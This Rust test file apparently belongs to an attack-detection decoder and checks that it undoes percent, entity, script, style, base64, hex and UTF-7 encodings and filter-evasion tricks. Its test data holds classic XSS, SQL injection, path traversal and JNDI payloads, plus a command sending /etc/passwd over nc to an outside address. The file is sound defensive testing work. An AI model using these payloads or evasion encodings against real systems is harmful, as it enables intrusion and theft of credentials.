//! That what is written in any of the encodings, and in several at once, is found again; and that each decoding agrees with
//! a kept implementation of it.

use super::*;
use percent_encoding::{NON_ALPHANUMERIC, percent_decode, percent_encode};

use ::base64::Engine;
use ::base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};

/// Which letters and digits are written as escapes, the same ones for the same number. Signs are escapes always, as every
/// encoder makes them: a text of which only some are is not what anybody wrote in several encodings.
#[derive(Clone, Copy, Debug)]
struct Choice(u64);

impl Choice {
    fn takes(self, index: usize, character: char) -> bool {
        !character.is_ascii_alphanumeric() || self.takes_letter(index)
    }

    fn takes_letter(self, index: usize) -> bool {
        self.0.rotate_left(u32::try_from(index % 64).unwrap()) & 1 == 1
    }
}

type Encode = fn(&str, Choice) -> String;

/// Writes the characters that are chosen as `escape` does.
fn escaped(text: &str, choice: Choice, escape: impl Fn(char) -> String) -> String {
    let characters = text.chars().enumerate();
    characters
        .map(|(index, character)| {
            if choice.takes(index, character) {
                escape(character)
            } else {
                character.into()
            }
        })
        .collect()
}

fn of_units(character: char, escape: impl Fn(u16) -> String) -> String {
    character
        .encode_utf16(&mut [0; 2])
        .iter()
        .map(|unit| escape(*unit))
        .collect()
}

/// Every encoding by name.
const ENCODINGS: [(&str, Encode); 17] = [
    ("percent", |text, choice| {
        escaped(text, choice, |character| {
            percent_encode(
                character.encode_utf8(&mut [0; 4]).as_bytes(),
                NON_ALPHANUMERIC,
            )
            .to_string()
            .replace(character, &format!("%{:02x}", u32::from(character)))
        })
    }),
    ("percent, every byte", |text, _| {
        text.bytes().map(|byte| format!("%{byte:02X}")).collect()
    }),
    ("percent u", |text, choice| {
        escaped(text, choice, |character| {
            of_units(character, |unit| format!("%u{unit:04x}"))
        })
    }),
    ("entity, decimal", |text, choice| {
        escaped(text, choice, |character| {
            format!("&#{};", u32::from(character))
        })
    }),
    ("entity, padded", |text, _| {
        escaped(text, Choice(u64::MAX), |character| {
            format!("&#x{:07x};", u32::from(character))
        })
    }),
    ("entity, named", |text, _| {
        text.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('"', "&quot;")
            .replace('\'', "&#39;")
            .replace('(', "&lpar;")
    }),
    ("script, units", |text, choice| {
        escaped(text, choice, |character| {
            of_units(character, |unit| format!("\\u{unit:04x}"))
        })
    }),
    ("script, points", |text, choice| {
        escaped(text, choice, |character| {
            format!("\\u{{{:x}}}", u32::from(character))
        })
    }),
    ("script, bytes", |text, choice| {
        escaped(text, choice, |character| {
            if character.is_ascii() {
                format!("\\x{:02x}", u32::from(character))
            } else {
                character.into()
            }
        })
    }),
    ("script, octal", |text, choice| {
        escaped(text, choice, |character| {
            if character.is_ascii() {
                format!("\\{:03o}", u32::from(character))
            } else {
                character.into()
            }
        })
    }),
    ("style, short", |text, choice| {
        escaped(text, choice, |character| {
            format!("\\{:x} ", u32::from(character))
        })
    }),
    ("style, padded", |text, choice| {
        escaped(text, choice, |character| {
            format!("\\{:06X}", u32::from(character))
        })
    }),
    ("base64", |text, _| STANDARD.encode(text)),
    ("base64, in addresses", |text, _| {
        URL_SAFE_NO_PAD.encode(text)
    }),
    ("hexadecimal", |text, _| {
        text.bytes().map(|byte| format!("{byte:02x}")).collect()
    }),
    ("hexadecimal, marked", |text, _| {
        "0x".chars()
            .chain(
                text.bytes()
                    .flat_map(|byte| format!("{byte:02X}").into_bytes())
                    .map(char::from),
            )
            .collect()
    }),
    ("UTF-7", |text, _| {
        let words: Vec<String> = text
            .split(' ')
            .map(|word| {
                let units: Vec<u8> = word.encode_utf16().flat_map(u16::to_be_bytes).collect();
                if word.is_empty() {
                    String::new()
                } else {
                    format!("+{}-", STANDARD_NO_PAD.encode(units))
                }
            })
            .collect();
        words.join(" ")
    }),
];

/// What attackers hide.
fn hidden() -> impl Strategy<Value = String> {
    prop_oneof![
        proptest::sample::select(vec![
            "<script>alert(document.domain)</script>",
            "' OR 'a'='a' --",
            "1 UNION SELECT password FROM users",
            "../../../../etc/passwd",
            "; cat /etc/passwd | nc 192.0.2.1 80",
            "<svg/onload=alert`1`>",
            "{{7*7}} ${jndi:ldap://a.example/x}",
        ])
        .prop_map(str::to_owned),
        "[a-z<>'\"();=/.,:$|]{1,8}( [a-z<>'\"();=/.,:$|]{1,8}){1,5}[g-z]{10}",
    ]
}

fn layer() -> impl Strategy<Value = (usize, Choice)> {
    (0..ENCODINGS.len(), any::<u64>().prop_map(Choice))
}

fn wrapped(text: &str, layers: &[(usize, Choice)]) -> String {
    layers
        .iter()
        .fold(text.to_owned(), |text, (encoding, choice)| {
            ENCODINGS[*encoding].1(&text, *choice)
        })
}

/// The steps of the form that is `text`.
fn found(raw: &str, text: &str) -> Option<Vec<DecodeStep>> {
    let forms = value(raw.as_bytes(), Syntax::Text);
    let form = forms.all().find(|form| form.text == text.as_bytes())?;
    Some(form.steps.to_vec())
}

#[test]
fn every_encoding_is_undone_and_told() {
    use DecodeStep::{Base64, CssEscape, Hex, HtmlEntity, JsonEscape, Percent, PercentU, Utf7};
    let text = "<script>alert(document.domain)</script>";
    let steps = [
        Percent, Percent, PercentU, HtmlEntity, HtmlEntity, HtmlEntity, JsonEscape, JsonEscape,
        JsonEscape, JsonEscape, CssEscape, CssEscape, Base64, Base64, Hex, Hex, Utf7,
    ];
    for ((name, encode), step) in ENCODINGS.iter().zip(steps) {
        let raw = encode(text, Choice(0xf731_8c62_5a2e_97db));
        assert_eq!(found(&raw, text), Some(vec![step]), "{name}: {raw}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, ..ProptestConfig::default() })]

    #[test]
    fn what_is_written_in_several_encodings_is_found(
        text in hidden(),
        layers in proptest::collection::vec(layer(), 1..4),
    ) {
        let raw = wrapped(&text, &layers);
        let names: Vec<_> = layers.iter().map(|(encoding, _)| ENCODINGS[*encoding].0).collect();
        prop_assert!(raw == text || found(&raw, &text).is_some(), "{text:?} in {names:?}: {raw:?}: {:?}", forms(raw.as_bytes(), Syntax::Text));
    }

    #[test]
    fn a_token_is_found_within_a_value(
        text in hidden(),
        around in proptest::sample::select(vec![
            ("", ""), ("Basic ", ""), ("data:text/html;base64,", ""), ("a=", "&b=2"), ("eyJhbGciOiJIUzI1NiJ9.", ".c2ln"), ("/api/", "/x"),
            ("[\"", "\"]"), ("'", "'"),
        ]),
        alphabet in 0..5usize,
    ) {
        let token = match alphabet {
            0 => STANDARD.encode(&text),
            1 => STANDARD_NO_PAD.encode(&text),
            2 => URL_SAFE.encode(&text),
            3 => URL_SAFE_NO_PAD.encode(&text),
            _ => {
                let line = |line: &[u8]| String::from_utf8(line.to_vec()).unwrap();
                STANDARD.encode(&text).as_bytes().chunks(20).map(line).collect::<Vec<_>>().join("\r\n")
            }
        };
        let (before, behind) = around;
        // A slash is a letter of base64, too: what it is must be told by the alphabet. Lines are broken in mail alone.
        prop_assume!(before != "/api/" || !token.contains(['/', '\n']));
        prop_assume!(!behind.starts_with('.') || !token.contains('\n'));
        let raw = format!("{before}{token}{behind}");
        prop_assert_eq!(found(&raw, &text), Some(vec![DecodeStep::Base64]), "{}", raw);
        let forms = value(raw.as_bytes(), Syntax::Text);
        let form = forms.all().find(|form| form.text == text.as_bytes()).unwrap();
        let piece = |start, end| form.offsets.raw(start)..form.offsets.raw_end(end);
        prop_assert_eq!(piece(0, text.len()), before.len()..before.len() + token.len());
        // Any piece leads to the letters that write it, and to no more than three others on each side.
        for start in 0..text.len() {
            for end in start + 1..=text.len() {
                let letters: Vec<u8> = raw.as_bytes()[piece(start, end)].iter().copied().filter(|byte| !byte.is_ascii_whitespace() && *byte != b'=').collect();
                let bytes = ::base64::engine::GeneralPurpose::new(
                    if alphabet == 2 || alphabet == 3 { &::base64::alphabet::URL_SAFE } else { &::base64::alphabet::STANDARD },
                    ::base64::engine::general_purpose::NO_PAD,
                ).decode(&letters).unwrap();
                let wanted = &text.as_bytes()[start..end];
                prop_assert!(bytes.windows(wanted.len()).any(|window| window == wanted));
                prop_assert!(bytes.len() <= wanted.len() + 4);
            }
        }
    }

    #[test]
    fn utf16_in_base64_is_text_as_well(text in "[ -~]{8,40}", big_endian: bool) {
        let units = text.encode_utf16().flat_map(|unit| if big_endian { unit.to_be_bytes() } else { unit.to_le_bytes() });
        let raw = STANDARD.encode(units.collect::<Vec<u8>>());
        prop_assert_eq!(found(&raw, &text), Some(vec![DecodeStep::Base64]));
    }

    /// Who passes over what is no letter finds the text however it is scattered.
    #[test]
    fn scattered_base64_is_found(text in "[ -~]{12,60}", every in 1_usize..9, filler in "[!.,;: *\n\r\t]{1,3}") {
        let letters = STANDARD.encode(&text);
        let raw: Vec<&str> = letters.as_bytes().chunks(every).map(|piece| std::str::from_utf8(piece).unwrap()).collect();
        let raw = raw.join(&filler);
        prop_assert!(found(&raw, &text).is_some(), "{raw:?}");
    }

    /// A whole value of percent escapes reads as the reference reads it.
    #[test]
    fn percent_escapes_agree_with_the_reference(raw in spelled()) {
        let mut oddities = Oddities::default();
        let form = Form::raw(&raw, Marks::of(&raw));
        let ours = percent::decode(&form, false, &mut oddities).map_or_else(|| raw.clone(), |form| form.text);
        let theirs: Vec<u8> = percent_decode(&raw).collect();
        prop_assert_eq!(ours, theirs);
    }

    /// What is wholly base64 of a text reads as the reference reads it, and what is none is left alone.
    #[test]
    fn base64_agrees_with_the_reference(bytes in prop_oneof![
        proptest::collection::vec(any::<u8>(), 12..60),
        "\\PC{12,40}".prop_map(String::into_bytes),
    ]) {
        let raw = STANDARD.encode(&bytes);
        let forms = value(raw.as_bytes(), Syntax::Text);
        let hidden = forms.all().find(|form| form.steps.first() == Some(&DecodeStep::Base64));
        match std::str::from_utf8(&bytes) {
            Ok(text) if !text.chars().take(12).any(char::is_control) => {
                prop_assert_eq!(hidden.map(|form| form.text), Some(bytes.as_slice()));
            }
            _ => if let Some(form) = hidden {
                prop_assert!(std::str::from_utf8(form.text).is_ok());
            }
        }
    }

    #[test]
    fn quoted_printable_and_xml_are_undone_where_they_are_declared(text in "[ -~é<&=]{0,40}", choice in any::<u64>().prop_map(Choice)) {
        let quoted: String = text.bytes().enumerate().map(|(index, byte)| {
            let soft = if choice.takes_letter(index + 7) { "=\r\n" } else { "" };
            if byte == b'=' || !byte.is_ascii() || choice.takes_letter(index) { format!("{soft}={byte:02X}") } else { format!("{soft}{}", char::from(byte)) }
        }).collect();
        let first = |raw: &str, syntax| value(raw.as_bytes(), syntax).first.unwrap().text;
        prop_assert_eq!(first(&quoted, Syntax::QuotedPrintable), text.as_bytes());
        let xml = escaped(&text, choice, |character| match character {
            '<' => "&lt;".into(),
            '&' => "&amp;".into(),
            '"' => "&quot;".into(),
            '\'' => "&apos;".into(),
            _ => format!("&#x{:X};", u32::from(character)),
        });
        prop_assert_eq!(first(&xml, Syntax::Xml), text.as_bytes());
        prop_assert_eq!(first("&ltscript&copy;&amp", Syntax::Xml), b"&ltscript&copy;&amp");
    }
}

#[test]
fn filler_and_look_alikes_are_taken_away() {
    use DecodeStep::{Comment, Compatibility, Invisible, Percent, Whitespace};
    let cases: &[(&str, &str, &[DecodeStep])] = &[
        ("1/**/union/*x*/select", "1 union select", &[Comment]),
        (
            "1/*!50000union*//*!select*/1",
            "1 union  select 1",
            &[Comment],
        ),
        (
            "1 union#abc\nselect--x\r\n1",
            "1 union select 1",
            &[Comment],
        ),
        ("<scr<!-- x -->ipt>", "<script>", &[Comment]),
        (
            "1\u{a0}or\u{3000}\u{2003}1\u{b}=\u{c}1",
            "1 or 1 = 1",
            &[Whitespace],
        ),
        ("1\u{1}or\u{1f}1", "1 or 1", &[Whitespace]),
        (
            "<scr\0ipt>al\u{200b}ert\u{feff}(1)\u{ad}</scr\u{2060}ipt>",
            "<script>alert(1)</script>",
            &[Invisible],
        ),
        (
            "sel\0ect/**/1\u{a0}",
            "select 1 ",
            &[Comment, Whitespace, Invisible],
        ),
        ("＜ｓｃｒｉｐｔ＞", "<script>", &[Compatibility]),
        ("<ſcrıpt>\u{212a}", "<script>K", &[Compatibility]),
        ("ʼ ＯＲ ʼ１ʼ⁼ʼ１", "' OR '1'='1", &[Compatibility]),
        ("①②⑦.⓪.⓪.①", "127.0.0.1", &[Compatibility]),
        ("‥∕‥／etc", "../../etc", &[Compatibility]),
        ("％２７％3E", "'>", &[Compatibility, Percent]),
    ];
    for (raw, text, steps) in cases {
        assert_eq!(
            found(raw, text).as_deref(),
            Some(*steps),
            "{raw}: {:?}",
            forms(raw.as_bytes(), Syntax::Text)
        );
    }
    // The byte that Latin-1 has for a blank.
    let forms = value(b"1\xa0or\xa01", Syntax::Text);
    assert!(forms.all().any(|form| form.text == b"1 or 1"));
    for honest in [
        "a / b * c",
        "*/*;q=0.8",
        "/* open",
        "# Title\n\ntext",
        "a -- b\nc",
        "<!-- open",
        "-- \nName",
        "C#",
        "a\t\r\n b",
        "naïve",
        "Кириллица",
        "👨‍👩‍👧‍👦",
        "می‌خواهم",
        "etc… ™",
    ] {
        let more = value(honest.as_bytes(), Syntax::Text).more;
        assert!(more.is_empty(), "{honest}: {more:?}");
    }
}

#[test]
fn a_padded_token_is_found_however_long_it_is() {
    for text in ["' OR 1=1--", "' OR 1=1", "../../../etc/a", "<b>1</b>"] {
        let token = STANDARD.encode(text);
        if !token.ends_with('=') {
            continue;
        }
        for raw in [token.clone(), format!("x {token}"), format!("a={token}")] {
            assert_eq!(found(&raw, text), Some(vec![DecodeStep::Base64]), "{raw}");
        }
    }
}

#[test]
fn tokens_do_not_crowd_out_what_the_value_itself_says() {
    let decoy = |number: u8| STANDARD.encode(format!("%2541 hello number {number}"));
    let decoys = (0..6).map(decoy).collect::<Vec<_>>().join(" ");
    for (raw, text) in [
        ("＜script＞alert(1)", "<script>alert(1)"),
        ("<scr\0ipt>", "<script>"),
    ] {
        let raw = format!("{raw} {decoys}");
        let text = format!("{text} {decoys}");
        assert!(found(&raw, &text).is_some(), "{raw}");
    }
}
